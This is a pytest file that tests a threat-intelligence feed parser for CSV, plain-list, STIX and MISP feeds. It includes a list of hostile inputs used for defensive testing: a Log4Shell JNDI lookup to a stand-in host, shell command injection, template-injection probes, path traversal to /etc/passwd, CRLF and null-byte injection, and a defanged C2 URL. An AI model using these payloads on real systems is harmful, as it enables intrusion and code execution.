"""CSV and plain-list feeds, format detection, errors naming file and line, and hostile values in any
feed format: normalized or skipped with a reason, never a crash, never a credential kept."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from actions.intel import FeedError, IntelIndex, IntelRecord, load_feed, normalize, parse_feed
from actions.intel.feeds import FeedResult

HEADER = "type,value,verdict,reason,first_seen,source,last_seen\n"


def _file(tmp_path: Path, text: str, name: str = "feed.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# -- CSV ---------------------------------------------------------------------------------------------------


def test_csv_rows_with_provenance_and_defanged_values(tmp_path: Path) -> None:
    path = _file(
        tmp_path,
        "\ufeff" + HEADER
        + "domain,js.mykings.top,malicious,MyKings C2 host,2017-03-01,demo-feed,2026-11-01\n"
        + "url,hxxp://js[.]mykings[.]top:280/v[.]sct,Malicious,MyKings scriptlet,2017-03-01,,\n"
        + "\n# a comment row\n"
        + "ip,2001:DB8::1,suspicious,scanner,2026-11-01 10:00:00 UTC,partner,\n",
    )  # fmt: skip

    records = load_feed(path)

    assert records == [
        IntelRecord("domain", "js.mykings.top", "malicious", "demo-feed", "MyKings C2 host",
                    "2017-03-01", "2026-11-01"),
        IntelRecord("url", "http://js.mykings.top:280/v.sct", "malicious", "feed.csv", "MyKings scriptlet",
                    "2017-03-01"),
        IntelRecord("ipv6", "2001:db8::1", "suspicious", "partner", "scanner", "2026-11-01T10:00:00Z"),
    ]  # fmt: skip


def test_csv_with_only_the_required_columns(tmp_path: Path) -> None:
    [record] = load_feed(_file(tmp_path, "value,type,verdict\nEVIL.example.net,domain,benign\n"))

    assert (record.value, record.verdict, record.reason, record.source) == (
        "evil.example.net",
        "benign",
        "listed in feed.csv",
        "feed.csv",
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("type,value\nip,1.2.3.4\n", r"feed\.csv:1: missing columns verdict"),
        (HEADER + "domain,evil.example.net,malicious,x,,,\ndomain,b.example.net,maybe,x,,,\n",
         r"feed\.csv:3: verdict 'maybe' is not one of malicious, suspicious, benign"),
        (HEADER + "mutex,Global\\X,malicious,x,,,\n", r"feed\.csv:2: unknown indicator type 'mutex'"),
        (HEADER + 'domain,"evil.example.net\n\n\n,malicious\n', r"feed\.csv:\d: verdict"),
    ],
)  # fmt: skip
def test_csv_shape_errors_name_file_and_line(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(FeedError, match=message):
        load_feed(_file(tmp_path, text))


def test_csv_values_that_are_no_indicator_are_skipped_with_file_and_line(tmp_path: Path) -> None:
    text = HEADER + "ipv4,300.1.1.1,malicious,x,,,\nregistry_value,HKLM\\Run\\start,malicious,x,,,\n"

    result = parse_feed(_file(tmp_path, text))

    assert result.records == []
    assert [str(s) for s in result.skipped] == [
        "feed.csv:2: '300.1.1.1' is no IP address",
        "feed.csv:3: registry_value is host evidence, not an intel indicator type",
    ]


# -- plain lists and detection -----------------------------------------------------------------------------


def test_a_plain_list_has_one_indicator_per_line(tmp_path: Path) -> None:
    text = "# C2 seen 2026-11\n45.83.66.1\nevil[.]example[.]net  # inline note\n\nnot an indicator\n"
    text += "D41D8CD98F00B204E9800998ECF8427E\n"

    result = parse_feed(_file(tmp_path, text, "c2-list.txt"))

    assert result.format == "list"
    assert [(r.type, r.value, r.verdict, r.source, r.reason) for r in result.records] == [
        ("ipv4", "45.83.66.1", "malicious", "c2-list.txt", "listed in c2-list.txt"),
        ("domain", "evil.example.net", "malicious", "c2-list.txt", "listed in c2-list.txt"),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e", "malicious", "c2-list.txt", "listed in c2-list.txt"),
    ]
    assert [str(s) for s in result.skipped] == [
        "c2-list.txt:5: 'not an indicator' is no IP, domain, URL or hash"
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"type": "bundle", "objects": [', r"bad\.json:1: not valid JSON"),
        ('{"hello": "world"}', r"bad\.json: JSON is neither a STIX bundle nor a MISP event"),
        ("[" * 100_000, r"bad\.json: (JSON nested too deeply|.*not valid JSON)"),
    ],
)
def test_json_that_is_no_feed_is_an_error(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(FeedError, match=message):
        load_feed(_file(tmp_path, text, "bad.json"))


def test_a_missing_file_is_an_error_and_an_empty_one_is_empty(tmp_path: Path) -> None:
    with pytest.raises(FeedError, match=r"nowhere\.csv: cannot read"):
        load_feed(tmp_path / "nowhere.csv")
    assert load_feed(_file(tmp_path, "", "empty.txt")) == []


def test_an_index_over_feeds_matches_normalized_values(tmp_path: Path) -> None:
    feed = parse_feed(_file(tmp_path, HEADER + "domain,evil.example.net,malicious,C2,,,\n"))
    again = parse_feed(_file(tmp_path, HEADER + "domain,EVIL.example.net,malicious,C2,,,\n", "copy.csv"))

    index = IntelIndex.of([feed, again])

    assert [r.source for r in index.get("domain", "EVIL[.]example[.]net")] == [
        "feed.csv",
        "copy.csv",
    ]
    assert index.get("domain", "{{7*7}}") == [] and index.get("ipv4", "45.83.66.1") == [] and len(index) == 2


# -- hostile values in every format ------------------------------------------------------------------------

HOSTILE = [
    "{{7*7}}",
    "{{''.__class__.__mro__}}",
    "http://admin:hunter2@evil.example.net/x?q={{7*7}}",
    "hxxp://admin:hunter2@{{7*7}}/",
    "evil.example.net/" + "a" * 10_000,
    "a" * 10_000 + ".example.net",
    "<https://evil.example.net|Approve> <!channel>",
    "evil.example.net\r\nX-Injected: 1",
    "evil.example.net\x00",
    "\u202eten.elpmaxe.live",
    "$(id);`id`|| -oProxyCommand=x",
    "${jndi:ldap://evil.example.net/a}",
    "1.2.3.4/../../etc/passwd",
    "",
]


def _as_csv(value: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["type", "value", "verdict", "reason", "first_seen", "source"])
    for kind in ("url", "domain", "ipv4", "sha256"):
        writer.writerow([kind, value, "malicious", f"why: {value[:500]}", value[:40], value[:300]])
    return out.getvalue()


def _as_stix(value: str) -> str:
    escaped = value.replace("\\", "\\\\").replace("'", "\\'")
    objects = [
        {"type": "indicator", "id": f"indicator--{i}", "pattern": f"[{path} = '{escaped}']",
         "name": value[:500], "valid_from": value[:40]}
        for i, path in enumerate(("url:value", "domain-name:value", "ipv4-addr:value", "file:hashes.MD5"))
    ] + [{"type": "domain-name", "id": "domain-name--x", "value": value},
         {"type": "infrastructure", "id": "infrastructure--x", "name": value[:500]},
         {"type": "relationship", "id": "relationship--x", "relationship_type": "consists-of",
          "source_ref": "infrastructure--x", "target_ref": "domain-name--x"}]  # fmt: skip
    return json.dumps({"type": "bundle", "id": "bundle--x", "objects": objects})


def _as_misp(value: str) -> str:
    attributes = [{"type": kind, "value": value, "to_ids": True, "comment": value[:500]}
                  for kind in ("url", "domain", "ip-dst", "sha256", "domain|ip", "filename|md5")]  # fmt: skip
    return json.dumps(
        {"Event": {"info": value[:500], "Orgc": {"name": value[:200]}, "Attribute": attributes}}
    )


FORMATS = {
    "csv": ("hostile.csv", _as_csv),
    "list": ("hostile.txt", lambda v: v + "\n"),
    "stix": ("hostile.json", _as_stix),
    "misp": ("hostile.json", _as_misp),
}


@pytest.mark.parametrize("fmt", sorted(FORMATS))
@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_values_are_normalized_or_skipped_never_a_crash(tmp_path: Path, fmt: str, value: str) -> None:
    name, render = FORMATS[fmt]

    result = parse_feed(_file(tmp_path, render(value), name))

    _assert_safe(result)


def _assert_safe(result: FeedResult) -> None:
    for record in result.records:
        assert normalize(record.type, record.value) == (record.type, record.value)  # canonical already
        for text in (
            record.value,
            record.reason,
            record.source,
            record.first_seen or "",
            record.last_seen or "",
        ):
            assert "hunter2" not in text and "\n" not in text and "\r" not in text and "\x00" not in text
        assert len(record.reason) <= 300 and len(record.source) <= 120 and len(record.value) <= 4096
    for skipped in result.skipped:
        assert skipped.reason and "hunter2" not in str(skipped) and "\n" not in str(skipped)
        assert len(skipped.reason) <= 300


def test_a_credentialed_url_keeps_no_credentials(tmp_path: Path) -> None:
    [record] = load_feed(_file(tmp_path, "hxxp://admin:hunter2@Evil.example.net:8080/x?q={{7*7}}\n", "l.txt"))

    assert record.value == "http://evil.example.net:8080/x?q={{7*7}}"  # data, kept literally, never evaluated


def test_a_feed_with_too_many_bad_entries_keeps_a_bounded_list_of_reasons(tmp_path: Path) -> None:
    result = parse_feed(_file(tmp_path, "{{x}}\n" * 5000, "junk.txt"))

    assert result.records == [] and len(result.skipped) == 1001
    assert str(result.skipped[-1]) == "junk.txt: 4000 more entries skipped"
